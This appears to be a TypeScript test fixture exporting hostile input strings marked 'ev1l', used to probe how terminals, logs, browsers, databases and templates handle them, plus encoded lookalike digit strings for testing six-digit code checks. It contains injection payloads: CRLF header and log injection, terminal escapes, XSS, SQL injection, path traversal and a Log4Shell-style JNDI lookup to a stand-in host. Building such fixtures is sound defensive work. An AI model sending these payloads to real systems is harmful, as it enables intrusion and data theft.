/** Hostile texts, as bytes, one character each. */

/** Part of each text, to search for in logs and answers. */
export const MARK = 'ev1l';

export const bytes = (text: string) => Buffer.from(text).toString('latin1');
export const escaped = (text: string) =>
  text.replace(/[^\w.-]/g, (one) => `%${one.charCodeAt(0).toString(16).padStart(2, '0')}`);

/** Texts that terminals, logs, browsers, databases and templates would act on. */
export const TEXTS: readonly string[] = [
  `${MARK}\r\nSet-Cookie: ${MARK}=1`,
  `${MARK}\n[error] ${MARK}`,
  `${MARK}\0`,
  `\x1b]0;${MARK}\x07\x1b[2J`,
  bytes(`\u202e${MARK}\u2066\u200f`),
  bytes(`\u2028${MARK}\ufeff`),
  `\xff\xfe${MARK}\xc0\xaf`,
  `%0d%0a${MARK}: 1`,
  `"><script>${MARK}</script>`,
  `' OR 1=1 -- ${MARK}`,
  `\${jndi:ldap://${MARK}.example/}`,
  `http://${MARK}.example/`,
  `../../../${MARK}`,
  MARK.repeat(700),
];

/** Texts that careless code reads as six digits. */
export const DIGITS: readonly string[] = [
  ...['１２３４５６', '١٢٣٤٥٦', '१२३४५६', '𝟏𝟐𝟑𝟒𝟓𝟔', '①②③④⑤⑥'].map((text) => escaped(bytes(text))),
  '%2531%2532%2533%2534%2535%2536',
  '%u0031%u0032%u0033%u0034%u0035%u0036',
  '%C0%B1%C0%B2%C0%B3%C0%B4%C0%B5%C0%B6',
  ...['%0A', '%0D%0A', '%00', '%20', '+', '%E2%80%8B', '%ZZ', '%'].flatMap((extra) => [
    `123456${extra}`,
    `${extra}123456`,
  ]),
  '1e5123',
  '0x1234',
  '-12345',
];
